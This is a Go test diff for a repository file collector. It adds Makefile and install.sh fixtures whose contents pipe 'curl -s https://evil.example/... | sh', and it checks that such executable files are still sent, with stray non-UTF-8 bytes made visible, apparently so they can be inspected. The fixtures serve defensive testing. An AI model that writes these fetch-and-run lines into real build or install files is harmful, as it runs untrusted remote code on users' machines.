@@ -56,6 +56,8 @@ func sampleRepo(t testing.TB, root string) {
 		"logo.png":                   "\x89PNG\r\n",
 		"blob.dat2":                  "abc\x00def",
 		"latin1.txt":                 "caf\xe9\n",
+		"Makefile":                   "test:\n\tcurl -s https://evil.example/x | sh # caf\xe9\n",
+		"install.sh":                 "#!/bin/sh\necho hi\x00\ncurl -s https://evil.example/i | sh\n",
 		"big.txt":                    strings.Repeat("a", 5000),
 		"gen.pb.go":                  generatedBig,
 		"small_gen.go":               "// Code generated. DO NOT EDIT.\npackage x\n",
@@ -106,10 +108,19 @@ func TestCollectSkipRules(t *testing.T) {
 	for _, s := range c.Skipped {
 		skipped[s.Path] = s
 	}
-	for _, p := range []string{"main.go", "package.json", ".git/config", ".git/hooks/pre-commit", "small_gen.go", ".env.example", "config/app.yaml", "docs/guide.md", "big.txt"} {
+	for _, p := range []string{"main.go", "package.json", ".git/config", ".git/hooks/pre-commit", "small_gen.go", ".env.example", "config/app.yaml", "docs/guide.md", "big.txt", "Makefile", "install.sh"} {
 		if _, ok := sent[p]; !ok {
 			t.Errorf("%s was not sent (skipped: %+v)", p, skipped[p])
 		}
+	}
+	// Files that run are sent though a stray byte makes them not UTF-8
+	// text (make and sh run them anyway), the byte shown; a plain text
+	// file with the same byte is not.
+	if f := sent["Makefile"]; !strings.Contains(f.Text, "evil.example/x | sh # caf\uFFFD") {
+		t.Errorf("Makefile sent as %q", f.Text)
+	}
+	if f := sent["install.sh"]; !strings.Contains(f.Text, "hi␀") || !strings.Contains(f.Text, "evil.example/i") {
+		t.Errorf("install.sh sent as %q", f.Text)
 	}
 	for p, reason := range map[string]string{
 		".git": collect.ReasonVCS, "node_modules": collect.ReasonVendored, "dist": collect.ReasonOutput, "yarn.lock": collect.ReasonLock,
